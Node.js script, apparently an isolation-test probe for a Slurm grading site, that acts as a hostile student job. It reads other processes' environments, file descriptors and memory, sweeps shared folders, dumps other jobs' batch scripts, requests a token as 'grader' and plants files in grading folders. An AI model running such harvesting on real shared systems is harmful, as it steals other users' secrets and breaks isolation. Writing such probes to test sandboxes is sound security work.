import { spawnSync } from 'node:child_process'
import {
  appendFileSync,
  existsSync,
  lstatSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'

// A learner's job that keeps whatever it can read while somebody else's grade job runs beside it: processes,
// files, the scheduler's own tools. It is not told what to look for; the test searches the loot.
const site = join(process.cwd(), '..', '..', '..')
const state = join(site, '..')
const me = process.getuid()
const loot = 'out/loot'
const counted = { scans: 0, foreign: 0, opened: 0, files: 0, wrote: [], environments: 0, kept: 0, left: [] }
const keep = (bytes) => {
  appendFileSync(loot, bytes)
  counted.kept += bytes.length
}
// As much as a job's output may be, with room for what comes after the files.
const most = 48 * 1024 * 1024
const attempt = (action) => {
  try {
    return action()
  } catch {
    return undefined
  }
}

function lookAtProcesses() {
  counted.scans++
  for (const pid of readdirSync('/proc').filter(
    (name) => /^\d+$/.test(name) && Number(name) !== process.pid,
  )) {
    const folder = `/proc/${pid}`
    const owner = attempt(() => statSync(folder).uid)
    const foreign = owner !== undefined && owner !== me && owner !== 0
    if (foreign) counted.foreign++
    const environment = attempt(() => readFileSync(`${folder}/environ`))
    if (environment) {
      keep(environment)
      counted.environments++
      if (foreign && environment.length > 0) counted.opened++
    }
    attempt(() => keep(readFileSync(`${folder}/cmdline`)))
    for (const name of ['cwd', 'root', 'exe']) attempt(() => keep(readlinkSync(`${folder}/${name}`)))
    // The grader's secret lies behind its standard input.
    for (const descriptor of attempt(() => readdirSync(`${folder}/fd`)) ?? []) {
      const file = `${folder}/fd/${descriptor}`
      attempt(() => keep(readlinkSync(file)))
      if (attempt(() => statSync(file).isFile() && statSync(file).size < 200_000))
        attempt(() => keep(readFileSync(file)))
    }
    if (foreign && attempt(() => openSync(`${folder}/mem`, 'r'))) counted.opened++
    if (foreign && attempt(() => process.kill(Number(pid), 0))) counted.opened++
  }
}

const until = Date.now() + 25_000
/** Of the site itself nothing may be left out unnoticed. */
function leave(folder) {
  if (folder.startsWith(state) && counted.left.length < 20) counted.left.push(folder)
}
function lookAtFiles(folder, depth = 0) {
  if (depth > 9) return
  // What others left on the machine must not fill the loot: the site's own folders come first.
  if (counted.kept > most || Date.now() > until) return leave(folder)
  for (const entry of attempt(() => readdirSync(folder, { withFileTypes: true })) ?? []) {
    const path = join(folder, entry.name)
    if (entry.isDirectory()) {
      // The validation library is public and large; our own programs are looked through.
      if (entry.name !== 'node_modules') lookAtFiles(path, depth + 1)
    } else if (entry.isFile() && !path.endsWith('/loot') && attempt(() => lstatSync(path).size < 300_000)) {
      if (counted.kept > most) return leave(folder)
      attempt(() => keep(readFileSync(path)))
      counted.files++
    }
  }
}

function ask(command, ...args) {
  const environment = { PATH: '/usr/bin:/bin:/usr/sbin', SLURM_CONF: join(state, 'etc', 'slurm.conf') }
  const answer = spawnSync(command, args, { env: environment, timeout: 5000 })
  keep(answer.stdout ?? '')
  keep(answer.stderr ?? '')
  return answer.status
}

writeFileSync(loot, '')
keep(JSON.stringify(process.env))
for (let round = 0; round < 6; round++) {
  lookAtProcesses()
  await pause(300)
}
for (const part of [state, '/dev/shm', '/run', '/var/spool', '/tmp', '/var/tmp']) lookAtFiles(part)
ask('squeue', '-a', '-o', '%all')
ask('scontrol', 'show', 'job')
const own = Number(process.env.SKA_NEAR ?? 1)
for (let id = Math.max(1, own - 5); id <= own + 5; id++) {
  ask('scontrol', 'show', 'job', String(id))
  ask('scontrol', 'write', 'batch_script', String(id), '-')
}
if (ask('scontrol', 'token', 'username=grader') === 0) counted.wrote.push('a token of the grader')
for (const folder of ['inbox/work', 'inbox/grade', 'jobs/grade', 'programs', 'programs/practicals']) {
  const file = join(site, folder, 'planted')
  if (attempt(() => writeFileSync(file, 'x') === undefined)) counted.wrote.push(folder)
  if (
    folder.endsWith('grade') &&
    attempt(() => existsSync(join(site, folder)) && readdirSync(join(site, folder)))
  )
    counted.wrote.push(`a list of ${folder}`)
}
lookAtProcesses()
writeFileSync('out/counted.json', JSON.stringify(counted))
